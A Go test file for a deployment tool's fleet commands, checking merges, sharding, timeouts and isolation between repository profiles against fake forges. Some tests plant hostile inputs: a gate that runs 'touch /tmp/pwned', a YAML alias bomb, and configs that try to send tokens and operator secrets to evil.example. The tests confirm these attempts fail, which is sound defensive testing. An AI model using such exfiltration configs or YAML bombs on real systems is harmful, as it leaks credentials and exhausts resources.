package cli_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/pawl-cd/pawl/internal/cli"
	"github.com/pawl-cd/pawl/internal/config"
	"github.com/pawl-cd/pawl/internal/fake"
	"github.com/pawl-cd/pawl/internal/fake/github"
	"github.com/pawl-cd/pawl/internal/fake/gitlab"
	"github.com/pawl-cd/pawl/internal/fleet"
	"github.com/pawl-cd/pawl/internal/status"
)

// squadron is a fleet at one GitHub and one registry, and an operator with its environment.
type squadron struct {
	*testing.T
	registry *fake.Registry
	github   *github.Server
	others   http.RoundTripper
	env      map[string]string
	file     string
	// seen are the requests by the profile's token, or without one.
	mu    sync.Mutex
	seen  []string
	repos []*github.Repo
	// before sees each request, and may hold it up.
	before func(r *http.Request) error
	now    func() time.Time
	// sleep waits; nil does not.
	sleep func(context.Context, time.Duration)
}

// brake pulls a brake in one profile.
func (s *squadron) brake(i int, args ...string) {
	s.Helper()
	var out, errs bytes.Buffer
	sys := s.system(&out, &errs)
	own := map[string]string{"MERGE_TOKEN": s.env[fmt.Sprintf("TOKEN_%d", i)]}
	sys.Env, sys.Environ = func(name string) (string, bool) { value, ok := own[name]; return value, ok }, nil
	if code := cli.Run(s.Context(), append(args, "--repository", fmt.Sprintf("org/p%d", i), "--no-run"), sys); code != 0 {
		s.Errorf("%v: exit code %d: %s%s", args, code, &out, &errs)
	}
}

// branch makes a branch at the base of a profile.
func (s *squadron) branch(i int, name string) {
	s.Helper()
	if err := s.repo(i).SetBranch(name, s.repo(i).Head("main")); err != nil {
		s.Fatal(err)
	}
}

// unmark deletes the mark of a profile, or has it be at another commit.
func (s *squadron) unmark(i int, at string) {
	s.Helper()
	for name := range s.repo(i).Refs() {
		if strings.HasPrefix(name, "refs/pawl/quiet/") {
			s.repo(i).DeleteRef(name)
			if at != "" {
				s.repo(i).SetRef(name, at)
			}
			return
		}
	}
	s.Fatalf("org/p%d has no mark", i)
}

// newSquadron makes n profiles org/p0, org/p1 and so on, each with the token token-I-c4nary in TOKEN_I.
func newSquadron(t *testing.T, n int, config string) *squadron {
	t.Helper()
	return newSquadronAt(t, n, config, time.Now)
}

func newSquadronAt(t *testing.T, n int, config string, clock func() time.Time, options ...func(*github.Options)) *squadron {
	t.Helper()
	s := &squadron{T: t, now: clock, env: map[string]string{"OPERATOR_SECRET": "operator-c4nary"}, file: filepath.Join(t.TempDir(), "fleet.yaml")}
	s.registry = fake.NewRegistry(fake.RegistryOptions{Tags: map[string][]string{"org/a": {"v1.0.0"}, "org/b": {"v1.0.0"}, "org/c": {"v1.0.0"}}})
	s.others = fake.Network{"index.docker.io": s.registry}
	who := map[string]github.Identity{}
	for i := range n {
		who[fmt.Sprintf("token-%d-c4nary", i)] = github.Identity{Login: fmt.Sprintf("bot-%d", i)}
	}
	at := github.Options{Now: clock, Identities: who}
	for _, set := range options {
		set(&at)
	}
	s.github = github.New(at)
	text := "version: 1\nprofiles:\n"
	for i := range n {
		name := fmt.Sprintf("org/p%d", i)
		repo := s.github.Create(name, github.Settings{})
		s.repos = append(s.repos, repo)
		files := map[string][]byte{}
		for file, content := range profileFiles(config) {
			files[file] = []byte(strings.ReplaceAll(content, "acme/profile", name))
		}
		if _, err := repo.Push("main", "alice", files, "the profile"); err != nil {
			t.Fatal(err)
		}
		s.env[fmt.Sprintf("TOKEN_%d", i)] = fmt.Sprintf("token-%d-c4nary", i)
		text += fmt.Sprintf("  - {repository: %s, token: TOKEN_%d, env: [OWN_%d]}\n", name, i, i)
	}
	s.write(text)
	return s
}

func (s *squadron) write(text string) {
	s.Helper()
	if err := os.WriteFile(s.file, []byte(text), 0o600); err != nil {
		s.Fatal(err)
	}
}

// push changes the files of a profile.
func (s *squadron) push(i int, files map[string]string) {
	s.Helper()
	all := map[string][]byte{}
	for name, text := range files {
		all[name] = []byte(text)
	}
	if _, err := s.repo(i).Push("main", "alice", all, "a change"); err != nil {
		s.Fatal(err)
	}
}

func (s *squadron) repo(i int) *github.Repo { return s.repos[i] }

func (s *squadron) value(i int, app string) string {
	s.Helper()
	data, _ := s.repo(i).File("main", "values.yaml")
	_, rest, _ := strings.Cut(string(data), "  "+app+": ")
	value, _, _ := strings.Cut(rest, " ")
	return value
}

// RoundTrip notes who asks whom, and passes on.
func (s *squadron) RoundTrip(r *http.Request) (*http.Response, error) {
	body, header := "", fmt.Sprint(r.Header)
	if r.Body != nil {
		data, err := io.ReadAll(r.Body)
		if err != nil {
			return nil, err
		}
		body = string(data)
		r = r.Clone(r.Context())
		r.Body = io.NopCloser(bytes.NewReader(data))
	}
	if name, password, ok := r.BasicAuth(); ok {
		header += name + ":" + password
	}
	s.mu.Lock()
	s.seen = append(s.seen, r.Method+" "+r.URL.String()+" "+header+" "+body)
	before := s.before
	s.mu.Unlock()
	if before != nil {
		if err := before(r); err != nil {
			return nil, err
		}
	}
	if toGitHub(r) {
		return s.github.RoundTripper().RoundTrip(r)
	}
	return s.others.RoundTrip(r)
}

func (s *squadron) system(out, errs *bytes.Buffer) cli.System {
	return cli.System{Out: out, Err: errs, Now: s.now, Transport: s,
		Sleep: func(ctx context.Context, d time.Duration) error {
			if s.sleep != nil {
				s.sleep(ctx, d)
			}
			return ctx.Err()
		},
		Env: func(name string) (string, bool) { value, ok := s.env[name]; return value, ok },
		Environ: func() (all []string) {
			for name, value := range s.env {
				all = append(all, name+"="+value)
			}
			return all
		}}
}

func (s *squadron) pawl(args ...string) (code int, out, errs string) {
	s.Helper()
	var o, e bytes.Buffer
	code = cli.Run(s.Context(), append(args, "--fleet", s.file), s.system(&o, &e))
	if text := o.String() + e.String(); strings.Contains(text, "c4nary") {
		s.Errorf("%v: a secret was printed: %s", args, text)
	}
	return code, o.String(), e.String()
}

// run runs the fleet and returns its report by profile.
func (s *squadron) run(want int, args ...string) (fleet.Report, map[string]fleet.Result) {
	s.Helper()
	code, out, errs := s.pawl(append([]string{"fleet", "run", "--output", "json"}, args...)...)
	var report fleet.Report
	if err := json.Unmarshal([]byte(out), &report); err != nil || code != want {
		s.Fatalf("exit code %d, want %d: %v\n%s%s", code, want, err, out, errs)
	}
	validFleet(s.T, out)
	by := map[string]fleet.Result{}
	for _, one := range report.Profiles {
		by[one.Profile] = one
	}
	return report, by
}

// validFleet holds a JSON text against the schema of its form.
func validFleet(t *testing.T, text string) {
	t.Helper()
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	const at = "https://pawl-cd.github.io/schema/"
	for name, text := range map[string][]byte{"pawl.fleet": fleet.ReportSchemaJSON(), "pawl.fleet-status": fleet.StatusSchemaJSON(), "pawl.fleet-discovery": fleet.DiscoverySchemaJSON(), "pawl.status": status.SchemaJSON()} {
		schema, err := jsonschema.UnmarshalJSON(bytes.NewReader(text))
		if err != nil {
			t.Fatal(err)
		}
		if err := c.AddResource(at+name+"@1.json", schema); err != nil {
			t.Fatal(err)
		}
	}
	var head struct{ Schema string }
	if err := json.Unmarshal([]byte(text), &head); err != nil {
		t.Fatal(err)
	}
	compiled, err := c.Compile(at + strings.Replace(head.Schema, "/", "@", 1) + ".json")
	if err != nil {
		t.Fatal(err)
	}
	report, err := jsonschema.UnmarshalJSON(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if err := compiled.Validate(report); err != nil {
		t.Errorf("%v\n%s", err, text)
	}
}

// TestFleetRun publishes one version that all profiles follow: each merges it once, and the sources are listed once for all.
func TestFleetRun(t *testing.T) {
	t.Parallel()
	const n = 8
	s := newSquadron(t, n, noChecks)
	report, _ := s.run(0)
	if fmt.Sprint(report.Tally()) != "[{unchanged 8}]" || report.Listings != 3 || report.Uses != 3*n {
		t.Errorf("nothing new: %+v", report)
	}
	if s.github.Writes() != n { // a mark each
		t.Errorf("nothing new wrote %d times", s.github.Writes())
	}
	before := s.github.Writes()
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	report, by := s.run(0, "--dry-run")
	if fmt.Sprint(report.Tally()) != "[{planned 8}]" || s.github.Writes() != before || by["org/p3"].Summary != "a v1.0.0 -> v1.1.0" {
		t.Errorf("a dry run: %+v, %d writes", report, s.github.Writes())
	}
	report, by = s.run(0)
	if fmt.Sprint(report.Tally()) != "[{merged 8}]" || report.Listings != 3 {
		t.Errorf("a new version: %+v", report)
	}
	for i := range n {
		if s.value(i, "a") != "v1.1.0" || len(s.repo(i).Log("main")) != 2 || by[fmt.Sprintf("org/p%d", i)].Pull == "" {
			t.Errorf("org/p%d: a is %s after %d commits, %+v", i, s.value(i, "a"), len(s.repo(i).Log("main")), by)
		}
	}
	writes := s.github.Writes()
	if report, _ := s.run(0); fmt.Sprint(report.Tally()) != "[{unchanged 8}]" || s.github.Writes() != writes+n {
		t.Errorf("once more: %+v, wrote %d times", report, s.github.Writes()-writes)
	}
	writes = s.github.Writes()
	if report, _ := s.run(0); fmt.Sprint(report.Tally()) != "[{quiet 8}]" || s.github.Writes() != writes {
		t.Errorf("and once more: %+v, wrote %d times", report, s.github.Writes()-writes)
	}
	file := filepath.Join(t.TempDir(), "fleet.html")
	code, out, _ := s.pawl("fleet", "run", "--page", file)
	if page, err := os.ReadFile(file); err != nil || !strings.Contains(string(page), "<h1 id=\"headline\">Everything is current</h1>") {
		t.Errorf("the page: %v", err)
	}
	if code != 0 || !strings.Contains(out, "org/p7   quiet\n") || !strings.HasSuffix(out, "\n8 profiles: 8 quiet; 3 sources listed for 0 uses\n") {
		t.Errorf("the table: exit code %d\n%s", code, out)
	}
}

// TestFleetCalls holds the requests that a report counts against those that the forge got, for each way in which a profile is read.
func TestFleetCalls(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 3, noChecks)
	s.push(1, map[string]string{".pawl.yaml": noChecks + "gates: {scan: {run: [true]}}\n"})
	s.env["TOKEN_2"] = "nobody-c4nary"
	snapshot := filepath.Join(t.TempDir(), "snapshot")
	for _, c := range []struct {
		state fleet.State
		with  string
	}{{fleet.Unchanged, ""}, {fleet.Quiet, ""}, {fleet.Merged, snapshot}, {fleet.Unchanged, snapshot}, {fleet.Quiet, snapshot}} {
		if c.state == fleet.Merged {
			s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
		}
		args := []string{}
		if c.with != "" {
			args = append(args, "--snapshot", c.with)
		}
		before := len(s.github.Calls())
		report, by := s.run(3, args...)
		own := map[string]int{}
		for _, call := range s.github.Calls()[before:] {
			own[call.Identity]++
		}
		unsent := by["org/p2"].Calls - own[""] // of two requests at once the refusal of one may keep the other from being sent
		want := map[string]int{"bot-0": by["org/p0"].Calls, "bot-1": by["org/p1"].Calls, "": by["org/p2"].Calls - unsent}
		if diff := cmp.Diff(want, own); diff != "" || unsent < 0 || unsent > 1 || report.Calls-unsent != len(s.github.Calls())-before || by["org/p0"].State != c.state {
			t.Errorf("%s: the report counts %d requests, the forge %d: %+v %s", c.state, report.Calls, len(s.github.Calls())-before, by["org/p0"], diff)
		}
	}
}

// TestFleetShards has three shards take every profile once.
func TestFleetShards(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 9, noChecks)
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	taken := map[string]int{}
	for i := range 3 {
		report, by := s.run(0, "--shard", fmt.Sprintf("%d/3", i))
		if report.Shard != fmt.Sprintf("%d/3", i) {
			t.Errorf("the shard is %q", report.Shard)
		}
		for name := range by {
			taken[name]++
		}
	}
	for i := range 9 {
		if taken[fmt.Sprintf("org/p%d", i)] != 1 || s.value(i, "a") != "v1.1.0" {
			t.Errorf("org/p%d was taken %d times, a is %s", i, taken[fmt.Sprintf("org/p%d", i)], s.value(i, "a"))
		}
	}
	if code, out, errs := s.pawl("fleet", "run", "--shard", "0/1000"); code != 0 || out+errs != "0 profiles: none falls to shard 0/1000\n" {
		t.Errorf("an empty shard: exit code %d: %s%s", code, out, errs)
	}
	for _, bad := range []string{"3/3", "-1/3", "1", "a/b", "0/0", "0/3/1"} {
		if code, _, errs := s.pawl("fleet", "run", "--shard", bad); code != 4 || !strings.Contains(errs, "--shard: want I/N") || !strings.Contains(errs, "hint: the first shard of three is 0/3") {
			t.Errorf("%s: exit code %d: %s", bad, code, errs)
		}
	}
}

// TestFleetIsolation has one profile fail in each way that there is: the others are as if they were alone.
func TestFleetIsolation(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 10, noChecks)
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	config := func(more string) map[string]string { return map[string]string{".pawl.yaml": noChecks + more} }
	s.push(1, config("gates:\n  scan: {run: [touch, /tmp/pwned]}\n"))
	s.push(2, config("events: {sinks: [{type: file, path: events.jsonl}]}\n"))
	s.push(3, config("forge: {kind: gitea, url: 'https://git.example'}\n"))
	s.push(4, config("unknown: key\n"))
	s.push(5, map[string]string{"manifests/b.yaml": "sources: {image: {kind: dockerimage, spec: {image: org/none, versionfilter: ^1.0.0}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.b}}}\n"})
	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c < 'k'; c++ {
		bomb += fmt.Sprintf("%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n", c, c, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1)
	}
	s.push(6, map[string]string{"values.yaml": bomb, "manifests/b.yaml": bomb})
	delete(s.env, "TOKEN_7")
	s.env["TOKEN_8"] = "nobody-c4nary"
	_, by := s.run(3)
	if _, out, _ := s.pawl("fleet", "run", "--dry-run"); !strings.Contains(out, "the variable TOKEN_7 is not set\n  hint: set it to the token of the profile's forge\n") {
		t.Errorf("the table says not what to do: %s", out)
	}
	for _, c := range []struct {
		profile int
		state   fleet.State
		says    string
	}{
		{0, fleet.Merged, ""}, {1, fleet.Refused, "a profile of a fleet has no programs"}, {2, fleet.Refused, "writes no files"},
		{3, fleet.Refused, "lives on gitea"}, {4, fleet.Refused, ""}, {5, fleet.Partial, "org/none"}, {6, fleet.Partial, ""},
		{7, fleet.Refused, "the variable TOKEN_7 is not set"}, {8, fleet.Failed, ""}, {9, fleet.Merged, ""},
	} {
		one := by[fmt.Sprintf("org/p%d", c.profile)]
		if one.State != c.state || !strings.Contains(one.Detail, c.says) || c.state.Bad() && one.Detail == "" {
			t.Errorf("org/p%d: %+v, want %s", c.profile, one, c.state)
		}
	}
	if hint := by["org/p8"].Hint; !strings.HasSuffix(hint, ": renew TOKEN_8") {
		t.Errorf("the hint names not the operator's variable: %s", hint)
	}
	if code, _, errs := s.pawl("fleet", "list", "--snapshot", filepath.Join(t.TempDir(), "snapshot")); code != 3 || !strings.Contains(errs, "Bad credentials (401)") || !strings.Contains(errs, ": renew TOKEN_8\n") || strings.Contains(errs, "MERGE_TOKEN") {
		t.Errorf("the list: exit code %d: %s", code, errs)
	}
	for i := range 10 {
		want := map[bool]string{true: "v1.1.0", false: "v1.0.0"}[i == 0 || i == 5 || i == 9]
		if got := s.value(i, "a"); i != 6 && got != want {
			t.Errorf("org/p%d: a is %s, want %s", i, got, want)
		}
	}
	if _, err := os.Stat("/tmp/pwned"); err == nil {
		t.Error("a program was started")
	}
}

// TestFleetSecrets shows that no token of one profile is sent for another one, whatever that one's configuration names.
func TestFleetSecrets(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 3, noChecks)
	for i := range 3 {
		s.env[fmt.Sprintf("OWN_%d", i)] = fmt.Sprintf("own-%d-c4nary", i)
	}
	stolen := noChecks + "env: [OWN_0, TOKEN_0, OPERATOR_SECRET]\nsecrets: {TOKEN_0: evil.example, OWN_0: evil.example, OPERATOR_SECRET: evil.example}\n"
	s.push(1, map[string]string{".pawl.yaml": stolen + "mirrors: {docker.io: 'https://evil.example/v2'}\nevents: {source: 'https://x.example', sinks: [{type: http, url: 'https://evil.example', token: OWN_0}]}\n",
		"manifests/b.yaml": "sources: {image: {kind: githubrelease, spec: {owner: org, repository: b, token: '{{ requiredEnv \"TOKEN_0\" }}', url: 'https://evil.example'}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.b}}}\n",
		"manifests/c.yaml": "sources: {image: {kind: dockerimage, spec: {image: 'evil.example/{{ requiredEnv \"OPERATOR_SECRET\" }}', versionfilter: ^1.0.0}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.c}}}\n"})
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	_, by := s.run(3)
	if by["org/p0"].State != fleet.Merged || by["org/p2"].State != fleet.Merged || !by["org/p1"].State.Bad() {
		t.Errorf("%+v", by)
	}
	var sent [3]int
	for _, request := range s.seen {
		for i := range 3 {
			mine := strings.Contains(request, fmt.Sprintf("/org/p%d", i)) || strings.Contains(request, fmt.Sprintf(`"name":"p%d"`, i)) ||
				strings.Contains(request, fmt.Sprintf("org/p%d", i))
			if strings.Contains(request, fmt.Sprintf("token-%d-c4nary", i)) {
				sent[i]++
				if !mine || !strings.HasPrefix(strings.SplitN(request, " ", 3)[1], "https://") {
					t.Errorf("the token of org/p%d went along with %s", i, request)
				}
			}
		}
		if strings.Contains(request, "evil.example") && strings.Contains(request, "c4nary") || strings.Contains(request, "operator-c4nary") || strings.Contains(request, "own-") {
			t.Errorf("a secret went along with %s", request)
		}
	}
	if sent[0] < 10 || sent[1] < 2 || sent[2] < 10 {
		t.Errorf("the tokens were sent %v times: this test sees nothing", sent)
	}
}

// TestFleetReleases has a profile follow a private repository twice, with its token and without one: its releases are listed with
// the token both times, and shown to nobody who has none, by a snapshot neither.
func TestFleetReleases(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 2, noChecks)
	s.env["OWN_0"] = "own-0-c4nary"
	s.others = fake.Network{"index.docker.io": s.registry, "releases.example": http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "Bearer own-0-c4nary" {
			w.WriteHeader(http.StatusNotFound)
			return
		}
		fmt.Fprint(w, `[{"id": 1, "tag_name": "v1.7.0", "published_at": "2026-01-01T00:00:00Z"}]`)
	})}
	follow := func(app, more string) string {
		return "sources: {image: {kind: githubrelease, spec: {owner: org, repository: secret, url: 'https://releases.example', versionfilter: {kind: semver, pattern: ^1.0.0}" + more + "}}}\n" +
			"targets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps." + app + "}}}\n"
	}
	s.push(0, map[string]string{".pawl.yaml": noChecks + "secrets: {OWN_0: releases.example}\n",
		"manifests/b.yaml": follow("b", ", token: '{{ requiredEnv \"OWN_0\" }}'"), "manifests/c.yaml": follow("c", "")})
	s.push(1, map[string]string{"manifests/b.yaml": follow("b", "")})
	text, err := os.ReadFile(s.file)
	if err != nil {
		t.Fatal(err)
	}
	s.write(string(text) + "limits: {parallel: 1}\n") // the one with the token asks first
	snapshot := filepath.Join(t.TempDir(), "snapshot")
	if code, _, errs := s.pawl("fleet", "list", "--snapshot", snapshot); code != 0 {
		t.Fatalf("exit code %d: %s", code, errs)
	}
	for _, args := range [][]string{{"--shard", "0/1", "--snapshot", snapshot}, {"--fresh"}} {
		_, by := s.run(3, args...)
		if s.value(0, "b") != "v1.7.0" || s.value(0, "c") != "v1.7.0" {
			t.Errorf("%v: with the token: %+v", args, by["org/p0"])
		}
		if s.value(1, "b") != "v1.0.0" || by["org/p1"].State != fleet.Partial {
			t.Errorf("%v: without one: %s, %+v", args, s.value(1, "b"), by["org/p1"])
		}
	}
}

// TestFleetLate has a forge that does not answer cost one profile its own time.
func TestFleetLate(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 4, noChecks)
	text, err := os.ReadFile(s.file)
	if err != nil {
		t.Fatal(err)
	}
	s.write(string(text) + "limits: {profile: 10s, parallel: 2}\n")
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	s.before = func(r *http.Request) error {
		if strings.Contains(r.URL.Path, "/org/p1") {
			<-r.Context().Done()
			return r.Context().Err()
		}
		return nil
	}
	_, by := s.run(3)
	for i, want := range []fleet.State{fleet.Merged, fleet.Late, fleet.Merged, fleet.Merged} {
		if one := by[fmt.Sprintf("org/p%d", i)]; one.State != want {
			t.Errorf("org/p%d: %+v, want %s", i, one, want)
		}
	}
}

// TestFleetInterrupted interrupts a fleet while a profile is at its forge: the report says so of those that did not end, and of nothing
// else.
func TestFleetInterrupted(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 3, noChecks)
	text, err := os.ReadFile(s.file)
	if err != nil {
		t.Fatal(err)
	}
	s.write(string(text) + "limits: {parallel: 1}\n")
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	ctx, interrupt := context.WithCancel(t.Context())
	s.before = func(r *http.Request) error {
		if strings.Contains(r.URL.Path, "/org/p1") {
			interrupt()
			return context.Canceled
		}
		return nil
	}
	var out, errs bytes.Buffer
	code := cli.Run(ctx, []string{"fleet", "run", "--fleet", s.file, "--output", "json"}, s.system(&out, &errs))
	var report fleet.Report
	if err := json.Unmarshal(out.Bytes(), &report); err != nil || code != cli.Interrupted || len(report.Profiles) != 3 {
		t.Fatalf("exit code %d, %v: %s%s", code, err, &out, &errs)
	}
	validFleet(t, out.String())
	for i, want := range []string{"merged ", "late the fleet was interrupted before it ended", "late the fleet was interrupted before it began"} {
		for _, one := range report.Profiles {
			if got := string(one.State) + " " + one.Detail; one.Profile == fmt.Sprintf("org/p%d", i) && (got != want || i > 0 && one.Hint == "") {
				t.Errorf("%+v, want %s", one, want)
			}
		}
	}
}

// TestFleetFired counts the pipelines that there are, not the triggers that were sent: one whose answer is lost may be none.
func TestFleetFired(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 1, noChecks)
	lab := gitlab.New(gitlab.Options{Now: time.Now})
	config := noChecks + "deploy:\n  projects:\n"
	for i := range 2 {
		p := lab.Create(fmt.Sprintf("group/env-%d", i), gitlab.Settings{Triggers: []string{"trigger"}})
		config += fmt.Sprintf("    - {name: env-%d, url: '%s', secret: OWN_0}\n", i, p.TriggerPathURL())
		if i == 1 {
			p.Inject(gitlab.Fault{Status: http.StatusBadGateway})
		}
	}
	s.env["OWN_0"] = "trigger"
	s.others = hosts{"gitlab.example": lab.RoundTripper(), "": fake.Network{"index.docker.io": s.registry}}
	s.push(0, map[string]string{".pawl.yaml": config})
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	_, by := s.run(3)
	if one := by["org/p0"]; one.State != fleet.Partial || one.Fired != 1 || len(lab.Counts()) != 1 {
		t.Errorf("%d pipelines: %+v", len(lab.Counts()), one)
	}
}

// TestFleetOutbox has a profile name a directory of the machine as where an earlier version kept its events: it is not looked
// into, or whoever opens the pipe in it would wait for ever.
func TestFleetOutbox(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 1, noChecks)
	dir := t.TempDir()
	if err := syscall.Mkfifo(filepath.Join(dir, "waiting"), 0o600); err != nil {
		t.Fatal(err)
	}
	text, err := os.ReadFile(s.file)
	if err != nil {
		t.Fatal(err)
	}
	s.write(string(text) + "limits: {profile: 4s}\n")
	s.others = fake.Network{"index.docker.io": s.registry, "sink.example": http.HandlerFunc(func(http.ResponseWriter, *http.Request) {})}
	s.push(0, map[string]string{".pawl.yaml": noChecks + fmt.Sprintf("events: {source: 'https://x.example', outbox: %q, sinks: [{type: http, url: 'https://sink.example'}]}\n", dir)})
	if _, by := s.run(0); by["org/p0"].State != fleet.Unchanged {
		t.Errorf("%+v", by)
	}
}

// TestFleetSlow has a profile ask a registry that all use for many images, one after the other as it wants: those that others
// need too do not stand in its line.
func TestFleetSlow(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 2, noChecks)
	text, err := os.ReadFile(s.file)
	if err != nil {
		t.Fatal(err)
	}
	s.write(string(text) + "limits: {profile: 10s, parallel: 2}\n")
	many := map[string]string{".pawl.yaml": noChecks + "registries: {docker.io: {concurrency: 1}}\n"}
	for i := range 500 {
		many[fmt.Sprintf("manifests/m%d.yaml", i)] = fmt.Sprintf("sources: {image: {kind: dockerimage, spec: {image: org/m%d, versionfilter: ^1.0.0}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.a}}}\n", i)
	}
	s.push(0, many)
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	began := make(chan struct{})
	begin := sync.OnceFunc(func() { close(began) })
	s.before = func(r *http.Request) error {
		switch {
		case strings.Contains(r.URL.Path, "/tags/list"):
			begin()
			time.Sleep(20 * time.Millisecond)
		case strings.Contains(r.URL.Path, "/org/p1"):
			<-began
			time.Sleep(20 * time.Millisecond)
		}
		return nil
	}
	_, by := s.run(3)
	if hint := by["org/p0"].Hint; !strings.Contains(hint, "pawl run -v --forge github --repository org/p0; ") {
		t.Errorf("hint: %s", hint)
	}
	if by["org/p0"].State != fleet.Late || by["org/p1"].State != fleet.Merged {
		t.Errorf("%+v", by)
	}
}

// TestFleetCrowd has a profile call one registry by many names and ask for as much as it may: it takes no more than its share.
func TestFleetCrowd(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 1, noChecks)
	many := map[string]string{}
	mirrors, limits := "", ""
	for i := range 60 {
		host := fmt.Sprintf("r%d.example", i%6)
		if i < 6 {
			mirrors += fmt.Sprintf("  %s: https://%s\n", host, []string{"index.docker.io", "INDEX.docker.io"}[i%2])
			limits += fmt.Sprintf("  %s: {concurrency: 256}\n", host)
		}
		many[fmt.Sprintf("manifests/m%d.yaml", i)] = fmt.Sprintf("sources: {image: {kind: dockerimage, spec: {image: %s/org/m%d, versionfilter: ^1.0.0}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.a}}}\n", host, i)
	}
	many[".pawl.yaml"] = noChecks + "mirrors:\n" + mirrors + "registries:\n" + limits
	s.push(0, many)
	var mu sync.Mutex
	now, most := 0, 0
	registry := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		now++
		most = max(most, now)
		mu.Unlock()
		time.Sleep(5 * time.Millisecond)
		mu.Lock()
		now--
		mu.Unlock()
		s.registry.ServeHTTP(w, r)
	})
	s.others = fake.Network{"index.docker.io": registry, "INDEX.docker.io": registry}
	s.run(3)
	if most > config.DefaultConcurrency/2 || most < 2 {
		t.Errorf("%d requests at once", most)
	}
}

// TestFleetListings shows a private repository's versions to those profiles that have a login for it, once, and to nobody else:
// not to those without or with another one, and not by what the operator's own docker knows.
func TestFleetListings(t *testing.T) { // it sets variables of the process, so it does not run beside others
	s := newSquadron(t, 4, noChecks)
	private := fake.NewRegistry(fake.RegistryOptions{Auth: fake.BasicAuth, User: "me", Password: "hunter2-c4nary", Tags: map[string][]string{"team/b": {"v1.0.0", "v1.2.0"}}})
	s.others = fake.Network{"index.docker.io": s.registry, "private.example": private}
	login := func(password string) string {
		dir := t.TempDir()
		auth := base64.StdEncoding.EncodeToString([]byte("me:" + password))
		if err := os.WriteFile(filepath.Join(dir, "config.json"), []byte(`{"auths": {"private.example": {"auth": "`+auth+`"}}}`), 0o600); err != nil {
			t.Fatal(err)
		}
		return dir
	}
	const right = "hunter2-c4nary"
	t.Setenv("DOCKER_CONFIG", login(right))
	t.Setenv("DOCKER_AUTH_CONFIG", `{"auths": {"private.example": {"auth": "`+base64.StdEncoding.EncodeToString([]byte("me:"+right))+`"}}}`)
	s.write(fmt.Sprintf(`version: 1
profiles:
  - {repository: org/p0, token: TOKEN_0, docker: %q}
  - {repository: org/p1, token: TOKEN_1, docker: %q}
  - {repository: org/p2, token: TOKEN_2}
  - {repository: org/p3, token: TOKEN_3, docker: %q}
`, login(right), login(right), login("wrong-c4nary")))
	for i := range 4 {
		s.push(i, map[string]string{"manifests/b.yaml": "sources: {image: {kind: dockerimage, spec: {image: private.example/team/b, versionfilter: ^1.0.0}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.b}}}\n"})
	}
	report, by := s.run(3)
	for i, want := range []string{"v1.2.0", "v1.2.0", "v1.0.0", "v1.0.0"} {
		if got := s.value(i, "b"); got != want {
			t.Errorf("org/p%d: b is %s, want %s: %+v", i, got, want, by[fmt.Sprintf("org/p%d", i)])
		}
	}
	if report.Listings != 2+3 { // two public ones for all, and the private one with a login, without, and with the other
		t.Errorf("%d listings", report.Listings)
	}
}

// TestFleetBrakes pulls and lifts brakes in all profiles with one command, and tells of those that it did not reach.
func TestFleetBrakes(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 3, noChecks)
	over := func(want int, args ...string) string {
		t.Helper()
		var out, errs bytes.Buffer
		code := cli.Run(t.Context(), append(args, "--fleet", s.file), s.system(&out, &errs))
		if code != want || strings.Contains(out.String()+errs.String(), "c4nary") {
			t.Fatalf("%v: exit code %d, want %d: %s%s", args, code, want, &out, &errs)
		}
		return out.String() + errs.String()
	}
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	if out := over(0, "pause", "--reason", "incident 42", "--dry-run"); s.github.Writes() != 0 || strings.Count(out, "dry run") != 3 {
		t.Errorf("a dry run: %s", out)
	}
	if out := over(0, "pause", "--reason", "incident 42"); !strings.Contains(out, "org/p1:\n  pulled pause") || !strings.HasSuffix(out, "3 profiles: 3 done, 0 not\n") {
		t.Errorf("pause: %s", out)
	}
	if report, _ := s.run(0); fmt.Sprint(report.Tally()) != "[{paused 3}]" || s.value(1, "a") != "v1.0.0" {
		t.Errorf("paused: %+v", report)
	}
	if code, out, errs := s.pawl("fleet", "status"); code != 0 || strings.Count(out, ":\n  paused: incident 42 (bot-") != 3 {
		t.Errorf("status: exit code %d: %s%s", code, out, errs)
	}
	over(0, "resume")
